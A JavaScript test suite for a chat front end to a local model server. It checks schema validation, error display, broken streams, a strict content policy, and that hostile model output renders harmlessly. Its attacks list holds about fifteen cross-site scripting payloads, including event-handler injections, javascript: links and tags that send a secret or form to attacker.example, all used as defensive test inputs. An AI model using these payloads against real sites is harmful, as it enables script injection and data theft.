// JSON mode, what the server refuses, and output that attacks the page. Where the model's exact output matters, or a state that a
// healthy server does not show, the answer to one request is made up here; all else comes from the real server.
import assert from "node:assert/strict";
import { test } from "node:test";
import { chatEvents, conversation, seedConversations } from "./browser.mjs";
import { answerWith, answered, ask, box, contentOf, lastAnswer, useServerAndBrowser } from "./fixture.mjs";

const fixture = useServerAndBrowser();
const schema = '{"type":"object","properties":{"name":{"type":"string"},"age":{"type":"integer"}},"required":["name","age"]}';

async function chooseSchema(page, text) {
  await page.getByText("JSON schema", { exact: true }).click();
  await page.getByRole("textbox", { name: "JSON schema" }).fill(text);
}

test("a schema is checked while it is typed", () =>
  fixture.withPage(async (page) => {
    await chooseSchema(page, '{"type":"objekt"}');
    await page.getByText("/type must be one of").waitFor();
    await box(page).fill("Hello");
    assert.ok(await page.getByRole("button", { name: "Send" }).isDisabled(), "a bad schema is not sent");
    await page.getByRole("textbox", { name: "JSON schema" }).fill('{"type":');
    await page.getByText(/JSON/).and(page.locator(".verdict.bad li")).waitFor();
    await page.getByRole("textbox", { name: "JSON schema" }).fill("");
    await page.getByRole("button", { name: "Insert an example" }).click();
    await page.getByText("The schema is valid.").waitFor();
    assert.ok(await page.getByRole("button", { name: "Send" }).isEnabled());
  }));

test("an answer is held against its schema", () =>
  fixture.withPage(async (page) => {
    await chooseSchema(page, schema);
    await answerWith(page, chatEvents(['{"name": ', '"Ada", "age"', ": 36}"]));
    const body = await ask(page, "Who?");
    assert.deepEqual(body.response_format, { type: "json_schema", json_schema: { name: "answer", schema: JSON.parse(schema), strict: true } });
    assert.equal(await contentOf(lastAnswer(page)), '{"name": "Ada", "age": 36}');
    await lastAnswer(page).getByText("Fits the schema").waitFor();

    await page.unrouteAll();
    await answerWith(page, chatEvents(['{"name": "Ada", "age": "old"}']));
    await ask(page, "Who?");
    await lastAnswer(page).getByText("Does not fit the schema").waitFor();
    await lastAnswer(page).getByText("/age").waitFor();

    await page.unrouteAll();
    await answerWith(page, chatEvents(['{"name": "A'], { finish: "length" }));
    await ask(page, "Who?");
    await lastAnswer(page).getByText("Not valid JSON").waitFor();
    await lastAnswer(page).getByText("cut off at max. tokens").waitFor();
  }));

test("a refusal is shown in full, with what can be done", () =>
  fixture.withPage(async (page) => {
    const refusal = (message, param) => JSON.stringify({ error: { message, type: "invalid_request_error", param, code: null } });
    for (const [status, message, param, headers, shown] of [
      [501, "built without structured output", "response_format", {}, "can't honour the output format"],
      [400, "keyword 'unevaluatedItems' at /a is not supported", "response_format.json_schema", {}, "Field: response_format.json_schema"],
      [429, "too many requests", null, { "Retry-After": "3" }, "Try again in 3 s."],
    ]) {
      await page.unrouteAll();
      await answerWith(page, refusal(message, param), { status, type: "application/json", headers });
      await ask(page, "Hello");
      await lastAnswer(page).getByText(`The server answered ${status}`).waitFor();
      await lastAnswer(page).getByText(message).waitFor();
      await lastAnswer(page).getByText(shown).waitFor();
    }
    // The way back: the same question again, now for the real server.
    await page.unrouteAll();
    await page.getByLabel("Max. tokens").fill("4");
    await page.getByRole("button", { name: "Try again" }).last().click();
    await answered(page);
    assert.notEqual(await contentOf(lastAnswer(page)), "");
  }));

test("the real server's refusal arrives too", () =>
  fixture.withPage(async (page) => {
    await page.getByLabel("Max. tokens").fill("100000");
    await ask(page, "Hello");
    await lastAnswer(page).getByText("The server answered 400").waitFor();
    await lastAnswer(page).getByText(/maximum context length is 8192/).waitFor();
  }));

test("a stream that breaks off is not taken for an answer", () =>
  fixture.withPage(async (page) => {
    const whole = chatEvents(["Once upon ", "a time"]);
    await answerWith(page, whole.slice(0, whole.indexOf("data: [DONE]")));
    await ask(page, "Hello");
    await lastAnswer(page).getByText("The stream broke off before the answer was complete.").waitFor();
    assert.equal(await contentOf(lastAnswer(page)), "Once upon a time");
    await page.unrouteAll();
    await page.route("**/v1/chat/completions", (route) => route.abort());
    await ask(page, "Hello");
    await lastAnswer(page).getByText("The server can't be reached.").waitFor();
  }));

const attacks = [
  '<script>window.attacked = 1; alert("script")</script>',
  '<img src=x onerror="window.attacked = 2; alert(2)">',
  "<svg onload=alert(3)><animate onbegin=alert(3) attributeName=x></svg>",
  '<iframe src="https://attacker.example/frame"></iframe><object data="https://attacker.example/o"></object>',
  "![picture](https://attacker.example/pixel.png?secret)",
  "![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoNCk+)",
  "[run](javascript:alert(5)) [also](&#106;avascript:alert(6)) [data](data:text/html,<script>alert(7)</script>)",
  "[fine](https://example.org/page) <https://example.org/auto>",
  '<a href="https://example.org" style="position:fixed;inset:0" onmouseover="alert(8)">html</a>',
  "<style>body { background: url(https://attacker.example/css) }</style><link rel=stylesheet href=https://attacker.example/x.css>",
  '<form action="https://attacker.example/post"><button>go</button></form>',
  "```html\n<img src=x onerror=alert(9)>\n```",
  '```"><img/src=x/onerror=alert(10)>\ncode\n```',
  "| a |\n|---|\n| <img src=x onerror=alert(11)> |",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(12)&gt;\">",
];

test("output that attacks the page does nothing", () =>
  fixture.withPage(async (page) => {
    const isClean = async () => {
      await page.waitForTimeout(300); // Time to load or to fire.
      assert.equal(await page.evaluate(() => window.attacked), undefined);
      const found = await page.locator(".message").evaluateAll((messages) =>
        messages.flatMap((message) => [
          ...[...message.querySelectorAll("script, img, iframe, object, embed, style, link, form, svg:not(.icon), math")].map((e) => e.outerHTML),
          ...[...message.querySelectorAll("*")].flatMap((e) => e.getAttributeNames().filter((name) => name.startsWith("on") || name === "style")),
          ...[...message.querySelectorAll("a")].map((a) => a.href).filter((href) => !/^https:/.test(href)),
        ]),
      );
      assert.deepEqual(found, []);
      const links = await page.locator(".message.assistant .markdown a").evaluateAll((all) => all.map((a) => `${a.target} ${a.rel}`));
      assert.ok(links.length > 0 && links.every((link) => link === "_blank noopener noreferrer nofollow"), String(links));
    };
    // As the model writes it, piece by piece, so that half-open tags are rendered too.
    await answerWith(page, chatEvents(attacks.join("\n\n").match(/[^]{1,7}/g)));
    await ask(page, attacks[1]);
    await isClean();
    assert.equal(await page.locator(".message.user .bubble").innerText(), attacks[1]);
    // As it lies in the store, from wherever it came.
    const json = ["assistant", attacks.join("\n"), { json: true }];
    await seedConversations(page, [conversation("a", attacks[0], [["user", attacks[1]], ["assistant", attacks.join("\n\n")], json])]);
    await lastAnswer(page).waitFor();
    await isClean();
    assert.equal(await page.locator(".conversation.current .conversation-title").innerText(), attacks[0]);
    // In the API view, where the request and the events are shown.
    await page.getByRole("tab", { name: "API" }).click();
    await page.waitForTimeout(300);
    assert.equal(await page.locator(".view img, .view script").count(), 0);
  }));

test("the policy is strict, and the page works without a word from elsewhere", async () => {
  const { url } = fixture.server;
  const page = await fetch(url, { headers: { Accept: "text/html" } });
  const policy = page.headers.get("Content-Security-Policy");
  assert.match(policy, /default-src 'none'/);
  assert.doesNotMatch(policy, /unsafe|https?:|\*/);
  const html = await page.text();
  assert.doesNotMatch(html, /<script>|<style|style=|onload=/);
  for (const [, path] of html.matchAll(/(?:src|href)="([^"]+)"/g)) {
    assert.match(path, /^\/assets\//);
    const asset = await fetch(url + path, { headers: { "Accept-Encoding": "gzip" } });
    assert.equal(asset.status, 200);
    assert.equal(asset.headers.get("Content-Encoding"), "gzip");
    assert.match(asset.headers.get("Cache-Control"), /immutable/);
  }
  // Programs get text.
  assert.match(await (await fetch(url, { headers: { Accept: "*/*" } })).text(), /^Quartet .+\n\nModel:/);
});
